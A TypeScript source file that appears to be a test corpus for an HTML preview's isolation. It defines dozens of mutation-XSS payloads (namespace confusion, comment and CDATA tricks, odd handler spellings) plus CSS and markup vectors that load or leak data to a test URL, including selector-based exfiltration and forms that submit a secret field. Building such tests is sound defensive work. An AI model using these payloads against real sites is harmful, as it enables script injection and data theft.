/**
 * Ways out of a preview that need no script to begin with: markup that means something else once it was written and read again, style
 * sheets, hints, and whatever else of a page loads or leads away. Each line is one page.
 */
import type { Target, Vector } from './isolationVectors.ts';

type Page = (at: Target) => string;

/** Says that it runs; without quotes and spaces, so that it fits anywhere. */
const RAN = 'parent.postMessage({executed:1},`*`)';
/** What is hidden in markup that a cleaner may take for something else. */
const hidden = ({ url }: Target): string =>
  `<img src=${url}/hidden onerror=${RAN}><iframe src=${url}/frame></iframe><link rel=preconnect href=${url}>`;
const asText = (markup: string): string => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const css =
  (rules: (url: string) => string): Page =>
  (at) =>
    `<!doctype html><style>${rules(at.url)}</style><body><p class="a b" id="i" data-u="${at.url}/attr">drawn<input></p></body>`;
const element =
  (markup: (url: string) => string): Page =>
  (at) =>
    `<!doctype html><body><p>drawn</p>${markup(at.url)}</body>`;

const MUTATIONS: Readonly<Record<string, Page>> = {
  'style in math': (at) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${asText(hidden(at))}">`,
  'style in math by class': (at) => `<math><mtext><table><mglyph><style><!--</style><b class="--&gt;${asText(hidden(at))}">x</b>`,
  'style in svg by class': (at) => `<svg><style><a class="</style>${hidden(at)}"></a></style></svg>`,
  'title in svg': (at) => `<svg><title><style><b class="</style></title>${hidden(at)}">`,
  'desc in svg': (at) => `<svg><desc><noscript><b class="</noscript>${hidden(at)}">`,
  'form in form': (at) => `<form><math><mtext></form><form><mglyph><style></math>${hidden(at)}`,
  'annotation-xml': (at) => `<math><annotation-xml encoding="text/html"><style>${hidden(at)}</style></annotation-xml></math>`,
  'annotation-xml of svg': (at) => `<math><annotation-xml encoding="application/xhtml+xml"><svg><p>${hidden(at)}`,
  foreignObject: (at) =>
    `<svg><foreignObject><p>${hidden(at)}</p><math><mi><style>${hidden(at)}</style></mi></math></foreignObject></svg>`,
  'foreignObject with a style': (at) =>
    `<svg><foreignobject><svg><style><b class="</style>${hidden(at)}"></b></style></svg></foreignobject></svg>`,
  'math in svg': (at) => `<svg></p><style><g title="</style>${hidden(at)}">`,
  noscript: (at) => `<noscript><p title="</noscript>${hidden(at)}"></noscript>`,
  'noscript in head': (at) =>
    `<!doctype html><head><noscript><link rel=stylesheet href=${at.url}/n.css><meta http-equiv=refresh content="0;url=${at.url}/n"><style>@import "${at.url}/s.css"</style></noscript></head>`,
  template: (at) => `<template>${hidden(at)}</template><template><template>${hidden(at)}</template></template>`,
  'declarative shadow root': (at) =>
    `<div><template shadowrootmode="open" shadowrootserializable>${hidden(at)}<style>:host{background:url(${at.url}/shadow)}</style><slot></slot></template></div>`,
  'closed shadow root': (at) =>
    `<div><template shadowrootmode=closed shadowrootclonable shadowrootdelegatesfocus>${hidden(at)}</template></div>`,
  'table foster parents': (at) => `<table><tr>${hidden(at)}<td><table>${hidden(at)}</table></table>`,
  'select and option': (at) =>
    `<select><option>${hidden(at)}<style>${hidden(at)}</style></select><select><button><selectedcontent>${hidden(at)}</selectedcontent></button></select>`,
  plaintext: (at) => `<svg><plaintext><p>${hidden(at)}</svg><plaintext>${hidden(at)}`,
  xmp: (at) => `<xmp><p title="</xmp>${hidden(at)}"></xmp><svg><xmp><p title="</xmp>${hidden(at)}">`,
  noembed: (at) =>
    `<noembed><p title="</noembed>${hidden(at)}"></noembed><noframes><p title="</noframes>${hidden(at)}"></noframes>`,
  textarea: (at) => `<textarea><p title="</textarea>${hidden(at)}"></textarea><title><p title="</title>${hidden(at)}">`,
  'processing instruction': (at) => `<?xml-stylesheet href="${at.url}/pi.css"?><?x ><p title="?>${hidden(at)}">`,
  CDATA: (at) => `<svg><![CDATA[><style><![CDATA[</style>${hidden(at)}]]></svg><![CDATA[ ${hidden(at)} ]]>`,
  'comment that ends early': (at) => `<!--> ${hidden(at)} --><!---> ${hidden(at)} --><!-- --!> ${hidden(at)} --><!-->`,
  'comment left open': (at) => `<p><!-- <b title="-->${hidden(at)}">`,
  'entity without end': (at) => `<a href="javascript&colon;${RAN}" id=go>x</a><p title="&quot${hidden(at)}">`,
  'null in a tag': (at) => `<ifr\0ame src=${at.url}/null></ifr\0ame><\0iframe src=${at.url}/n><img/\0/src=${at.url}/i>`,
  'slashes for spaces': (at) => `<iframe/src=${at.url}/slash//><img/onerror=${RAN}/src=${at.url}/i><svg/onload=${RAN}>`,
  'quote in a name': (at) => `<p "><iframe src=${at.url}/q></iframe> ' \`=\`><img ="" src=${at.url}/i>`,
  'custom element of a built-in one': (at) =>
    `<x-a is="x"><iframe is=x src=${at.url}/is></iframe><link is=x rel=preload as=fetch href=${at.url}/is></x-a>`,
  'frames of an old page': (at) =>
    `<frameset rows="*,*" onload=${RAN}><frame src=${at.url}/one><frame src="javascript:${RAN}"><noframes>${hidden(at)}`,
  'nesting without end': (at) => `${'<div><table><svg><g>'.repeat(600)}${hidden(at)}`,
  'hidden members': (at) =>
    `<form name=body><input name=attributes><input name=childNodes><input name=getAttribute><input name=removeAttribute><input name=nodeName><input name=parentNode>${hidden(at)}</form><img name=documentElement><img name=currentScript><img name=adoptedStyleSheets><form name=scripts></form><img name=createElement>${hidden(at)}`,
  'handlers without end': () =>
    `<!doctype html><body ${['load', 'pageshow', 'focus', 'resize', 'hashchange', 'message'].map((name) => `on${name}=${RAN}`).join(' ')}><details open ontoggle=${RAN}></details><style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${RAN} oncontentvisibilityautostatechange=${RAN}>x`,
  'handler in odd writing': () =>
    `<body><img src=x OnErRoR\n=\n${RAN}><img src=x onerror\f=${RAN}><svg><animate onbegin=${RAN} attributeName=x dur=1s></svg><video src=x onerror=${RAN}></video><img src=x title="a"onerror=${RAN}>`,
};

const STYLES: Readonly<Record<string, Page>> = {
  '@import in capitals': css(
    (url) => `@IMPORT URL(${url}/1.css);@ImPoRt '${url}/2.css' layer(a) supports(display:grid) print,screen;`,
  ),
  '@import behind a comment': css(
    (url) => `/**/@import/*"*/"${url}/1.css"/*;*/;@charset "x";@layer x;@import url( ${url}/2.css );`,
  ),
  '@import with escapes': css((url) => `@\\000069 \\6dport "\\68 ttp${url.slice(4)}/1.css";@im\\port "${url}/2.css";`),
  '@import after many spaces': css((url) => `@import ${' '.repeat(60)}url(${' '.repeat(60)}"${url}/1.css");`),
  'url after many spaces': css((url) => `p{background:url(${' '.repeat(60)}"${url}/1")}`),
  'url with a hard space': css((url) => `p{background:url(${url}/a\u00a0b)}`),
  'form feed in a string': css((url) => `p{--a:"\f;background:url(${url}/ff);--b:"}`),
  'line end in a string': element(
    (url) => `<p style='--a:"&#13;;background:url(${url}/cr);--b:"'>x</p><p style='--a:"&#12;;background:url(${url}/ff);--b:"'>`,
  ),
  'url left open': css((url) => `p{background:url(${url}/open`),
  'null in a name': css((url) => `p{background:u\0rl(${url}/1),url(${url}/\0);background:url\\28${url}/2)}`),
  'image-set and cross-fade': css(
    (url) =>
      `p{background:-webkit-image-set("${url}/1" 1x),image-set(url("${url}/2") 1x,"${url}/3" type("image/png") 2x)}b,p{border-image:-webkit-cross-fade(url(${url}/4),url(${url}/5),50%) 1;mask:cross-fade("${url}/6" 50%,"${url}/7")}`,
  ),
  'src and attr functions': css(
    (url) =>
      `p{background:src("${url}/1");background-image:image("${url}/2");--u:"${url}/3";background:src(var(--u))}p::after{content:attr(data-u type(<url>));background:image-set(attr(data-u))}`,
  ),
  'url in custom properties': css(
    (url) =>
      `@property --p{syntax:"<image>";inherits:true;initial-value:url(${url}/1)}:root{--q:url(${url}/2);--r:var(--x,url(${url}/3))}p{background:var(--p),var(--q),var(--r)}`,
  ),
  'registered url': css(
    (url) =>
      `@property --u{syntax:"<url>+";inherits:false;initial-value:url(${url}/1)}p{--u:url("${url}/2");background:var(--u)}`,
  ),
  'every property with an address': css((url) =>
    [
      'cursor',
      'list-style',
      'list-style-image',
      'mask',
      'mask-image',
      '-webkit-mask',
      '-webkit-mask-box-image',
      'border-image-source',
      'filter',
      'backdrop-filter',
      'clip-path',
      'offset-path',
      'shape-outside',
      'content',
      '-webkit-box-reflect',
      'fill',
      'stroke',
      'marker',
      'behavior',
      '-moz-binding',
      'src',
      'border-image',
      'background-image',
    ]
      .map((name, index) => `p,p::before,p::marker{${name}:url(${url}/${index}#a)}`)
      .join(''),
  ),
  'pseudo-elements': css((url) =>
    [
      '::before',
      '::first-line',
      '::first-letter',
      '::selection',
      '::marker',
      '::placeholder',
      '::backdrop',
      '::view-transition',
      '::scroll-marker',
      '::checkmark',
      '::highlight(x)',
      '::details-content',
    ]
      .map((name, index) => `p${name},input${name}{content:url(${url}/c${index});background:url(${url}/${index})}`)
      .join(''),
  ),
  'exfiltration by selectors': css(
    (url) =>
      `input{--v:none}p:has(input:not([value="x"])){background:url(${url}/has)}[data-u^=h]{background:url(${url}/${'h'})}@media(width>1px){p{list-style:url(${url}/media)}}`,
  ),
  'nesting and groups': css(
    (url) =>
      `p{&:is(p){background:url(${url}/1)}@container(width>0){mask:url(${url}/2)}}@scope(body){p{cursor:url(${url}/3),auto}}@layer a{p{background:url(${url}/4)}}@supports(display:grid){p{content:url(${url}/5)}}@starting-style{p{background:url(${url}/6)}}@container style(--a){p{background:url(${url}/7)}}`,
  ),
  'names and counters': css(
    (url) =>
      `@namespace x url(${url}/ns);@counter-style c{system:cyclic;symbols:url(${url}/1) "x"}p{display:list-item;list-style:c}@font-feature-values x{}@view-transition{navigation:auto;types:x}@document url(${url}/2){p{}}`,
  ),
  'fonts of all kinds': css(
    (url) =>
      `@font-face{font-family:x;src:local("x"),url(${url}/1.woff2) format("woff2") tech(variations),url("${url}/2")}@font-face{font-family:y;src:url(${url}/3);unicode-range:U+64}@font-palette-values --p{font-family:x;base-palette:0}*{font-family:x,y}`,
  ),
  'keyframes and functions': css(
    (url) =>
      `@keyframes k{from{background:url(${url}/1)}to{content:url(${url}/2)}}p{animation:k 9s}@function --f(){result:url(${url}/3)}p{background:--f();background:if(style(--a:b):url(${url}/4);else:url(${url}/5))}`,
  ),
  'pages and anchors': css(
    (url) =>
      `@page{background:url(${url}/1);@top-left{content:url(${url}/2)}}@position-try --a{background:url(${url}/3)}p{position-try:--a}`,
  ),
  'style attributes': element(
    (url) =>
      `<p style="background:URL(&quot;${url}/1&quot;)">x</p><p style="--x:url(${url}/2);background:var(--x)">x</p><table style="list-style:url(${url}/3)"><svg style="background:u&#92;72 l(${url}/4)"></svg>`,
  ),
  'presentation attributes': element(
    (url) =>
      `<svg width=9 height=9><rect width=9 height=9 fill="url(${url}/1#a)" filter="u&#92;72l(${url}/2#a)" mask="url('${url}/3#a')" clip-path="URL(${url}/4#a)" cursor="url(${url}/5),auto" marker-end="url(${url}/6#a)"/></svg>`,
  ),
  'style sheet in svg': element(
    (url) =>
      `<svg><style>@import url(${url}/1.css);rect{fill:url(${url}/2)}</style><style><![CDATA[@import "${url}/3.css";]]></style><defs><style>&#64;import "${url}/4.css";</style></defs></svg>`,
  ),
  'style sheets of other types': element(
    (url) =>
      `<style type="text/css" media="all">@import "${url}/1.css"</style><style type="text/tailwindcss">@import "${url}/2.css"</style><style nonce=x blocking=render>p{background:url(${url}/3)}</style><link rel="stylesheet alternate" title=a href="${url}/4.css"><link rel=" StyleSheet " href="//${url.slice(7)}/5.css" media=print>`,
  ),
};

const LOADS: Readonly<Record<string, Page>> = {
  'SMIL of an address': element(
    (url) =>
      `<svg><image width=9 height=9 href="data:,"><set attributeName=href to="${url}/1"/><animate attributeName="xlink:href" values="${url}/2;${url}/3" dur=1s /></image><feImage><set attributeName=href to="${url}/4"/></feImage><rect><set attributeName=style to="background:url(${url}/5)"/><set attributeName=fill to="url(${url}/6#a)"/></rect></svg>`,
  ),
  'SMIL of a link': element(
    (url) =>
      `<svg width=99 height=99><a href="#"><set attributeName=href to="${url}/1"/><animate attributeName=xlink:href to="javascript:${RAN}" dur=1s fill=freeze /><rect id=go width=99 height=99 /></a></svg>`,
  ),
  'picture sets': element(
    (url) =>
      `<picture><source srcset="${url}/1 1x,${url}/2 2x" type=image/png media="(width>0)"><source data-x srcset="${url}/3"><img src=data:, srcset="data:, 1x,${url}/4 2x" sizes=auto loading=lazy lowsrc=${url}/5 dynsrc=${url}/6 longdesc=${url}/7 attributionsrc=${url}/8 usemap=${url}/9></picture>`,
  ),
  'addresses in odd writing': element(
    (url) =>
      `<img src="\n\t${url}/1"><img src=" ${url.replace(':', ':\t')}/2"><img src="${url.replace('//', '\\\\')}/3"><img src="${url.toUpperCase()}/4"><img src="//${url.slice(url.indexOf('//') + 2)}/5"><img src="&#104;${url.slice(1)}/6"><img src="data:text/html,<img src=${url}/7>"><img src="view-source:${url}/8"><img src="blob:${url}/9">`,
  ),
  'backgrounds of tables': element(
    (url) =>
      `<table background=${url}/1><tr background=${url}/2><td background=${url}/3>x</table><hr background=${url}/4><th background="  ${url}/5">`,
  ),
  'media of all kinds': element(
    (url) =>
      `<video autoplay muted controls preload=auto poster=" ${url}/1" crossorigin><source src=${url}/2><track default kind=metadata src=${url}/3></video><audio autoplay preload src=${url}/4></audio><audio><source src="${url}/5" type=audio/mp3></audio><bgsound src=${url}/6><video src="data:,x" poster=${url}/7>`,
  ),
  'plug-ins': element(
    (url) =>
      `<object type=text/html data=${url}/1><param name=src value=${url}/2><embed type=image/svg+xml src=${url}/3></object><applet archive=${url}/4 codebase=${url}/5 code=x></applet><object classid=${url}/6 codebase=${url}/7></object><embed src="data:text/html,<img src=${url}/8>">`,
  ),
  'frames of all kinds': element(
    (url) =>
      `<iframe src=${url}/1 loading=eager credentialless></iframe><iframe srcdoc="<iframe srcdoc='&lt;img src=${url}/2>'></iframe>"></iframe><iframe src="data:text/html,<img src=${url}/3>"></iframe><iframe src="javascript:'<img src=${url}/4>'"></iframe><fencedframe src=${url}/5></fencedframe><portal src=${url}/6></portal><ilayer src=${url}/7><layer src=${url}/8><controlledframe src=${url}/9></controlledframe>`,
  ),
  'scripts of all kinds': element(
    (url) =>
      `<script src=${url}/1 async defer crossorigin integrity=sha256-x blocking=render attributionsrc></script><script type=module>import "${url}/2"</script><script type=importmap>{"imports":{"x":"${url}/3"}}</script><script type=module>import "x"</script><svg><script href=${url}/4 /><script xlink:href="${url}/5"></script></svg><script type=webbundle>{"source":"${url}/6","resources":["${url}/7"]}</script>`,
  ),
  'hints of all kinds': element((url) =>
    [
      'dns-prefetch',
      'PRECONNECT',
      'pre&#99;onnect',
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'manifest',
      'icon',
      'shortcut icon',
      'apple-touch-icon',
      'mask-icon',
      'compression-dictionary',
      'dictionary',
      'expect',
      'monetization',
      'payment',
      'pingback',
      'privacy-policy',
      'subresource',
      'import',
      'next',
      'search',
      'x preconnect x',
    ]
      .map(
        (rel) =>
          `<link rel="${rel}" as=image imagesrcset="${url}/set 1x" imagesizes=1px crossorigin href="${url}/${rel.length}">`,
      )
      .join(''),
  ),
  'hints within svg and math': element(
    (url) =>
      `<svg><link rel=preconnect href=${url} /><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel=prefetch href=${url}/1 /><foreignObject><link rel=preconnect href=${url}><base href=${url}></foreignObject></svg><math href=${url}/2><mi href="${url}/3" xlink:href="${url}/4">x</mi></math>`,
  ),
  'metas of all kinds': element(
    (url) =>
      `<meta http-equiv=" Refresh" content="0 ; URL='${url}/1'"><meta http-equiv=REFRESH content="0,url=${url}/2"><meta http-equiv=Link content="<${url}/3>;rel=preload;as=image"><meta http-equiv=x-dns-prefetch-control content=on><meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=taken=1><meta http-equiv=origin-trial content=x><meta http-equiv=Content-Security-Policy content="report-uri ${url}/4; img-src 'none'"><meta http-equiv=delegate-ch content="sec-ch-ua ${url}"><img src=${url}/5>`,
  ),
  'base of all kinds': (at) =>
    `<base href=${at.url}/><base target=_top href="//${at.host}/"><svg><base href=${at.url}/ /></svg><body><img src=1><a href=2 id=go>go</a><link rel=prefetch href=3>`,
  'speculation rules in odd writing': element(
    (url) =>
      `<script type=" SpeculationRules ">{"prefetch":[{"urls":["${url}/1"],"eagerness":"immediate"}]}</script><script type=speculationrules src=${url}/2></script><svg><script type=speculationrules>{"prerender":[{"urls":["${url}/3"]}]}</script></svg>`,
  ),
  'names of outer windows': element(
    (url) =>
      `<a target=_parent href="${url}/1" id=go ping="${url}/2 ${url}/3" attributionsrc=${url}/4 referrerpolicy=unsafe-url rel=opener>go</a>`,
  ),
  'area of a map': element(
    (url) =>
      `<map name=m><area id=go shape=default href=${url}/1 ping=${url}/2 target=_blank></map><img usemap=#m width=99 height=99 src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">`,
  ),
  'download link': element((url) => `<a id=go download=x.html href=${url}/1>go</a><a download href="data:text/html,x">x</a>`),
  'scheme of a script': element(
    () =>
      `<a id=go href=" java\nscript&colon;${RAN}">go</a><a href="vbscript:x">x</a><a href="data:text/html,<script>${RAN}</script>">x</a><form action="javascript:${RAN}"><button>x</button></form>`,
  ),
  'form by its label': element(
    (url) =>
      `<form id=f action=${url}/1 method=dialog><input name=a value=secret></form><label id=go for=s>go</label><input id=s type=submit form=f formaction=${url}/2 formmethod=get formtarget=_top><isindex action=${url}/3>`,
  ),
  'form by a picture': element(
    (url) =>
      `<form action=${url}/1 accept-charset=utf-7 enctype=text/plain method=post target=_blank><input id=go type=image width=50 height=50 src=${url}/2 formaction=${url}/3></form>`,
  ),
  invokers: element(
    (url) =>
      `<button id=go command=show-modal commandfor=d popovertarget=o>go</button><dialog id=d open onbeforetoggle=${RAN}><iframe src=${url}/1></iframe></dialog><div id=o popover=auto ontoggle=${RAN} style="background:url(${url}/2)">x</div><details name=x open><summary>x</summary><img src=${url}/3></details>`,
  ),
  'elements of the browser': element(
    (url) =>
      `<geolocation onlocation=${RAN}></geolocation><permission type=camera></permission><usermedia></usermedia><install installurl=${url}/1></install><model src=${url}/2></model><webview src=${url}/3></webview><keygen><menuitem icon=${url}/4></menuitem>`,
  ),
  'text of other elements': element(
    (url) =>
      `<svg><use href="${url}/1#a"/><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image id='a' href='${url}/2'/></svg>#a"/><textPath href="${url}/3#a">x</textPath><linearGradient href=" ${url}/4#a"/><pattern xlink:href="${url}/5"/><mpath href="${url}/6"/><color-profile xlink:href=${url}/7 /><cursor xlink:href=${url}/8 /><tref xlink:href=${url}/9 /><font-face-uri href=${url}/10 /><handler xlink:href=${url}/11 /></svg>`,
  ),
  quotations: element(
    (url) =>
      `<blockquote cite=${url}/1>x</blockquote><q cite=${url}/2>x</q><del cite=${url}/3>x</del><html manifest=${url}/4><body background=${url}/5 itemid=${url}/6>`,
  ),
};

const CLICKED = new Set([
  'SMIL of a link',
  'base of all kinds',
  'names of outer windows',
  'area of a map',
  'download link',
  'scheme of a script',
  'form by its label',
  'form by a picture',
  'invokers',
  'entity without end',
]);
const ALONE = new Set(['names of outer windows', 'base of all kinds', 'form by its label']);

const vectorsOf = (family: Vector['family'], pages: Readonly<Record<string, Page>>): readonly Vector[] =>
  Object.entries(pages).map(([name, html]) => ({
    family,
    name,
    html,
    ...(CLICKED.has(name) ? { click: true } : {}),
    ...(ALONE.has(name) ? { alone: true } : {}),
  }));

export const MARKUP_VECTORS: readonly Vector[] = [
  ...vectorsOf('mutation', MUTATIONS),
  ...vectorsOf('style', STYLES),
  ...vectorsOf('passive', LOADS),
];
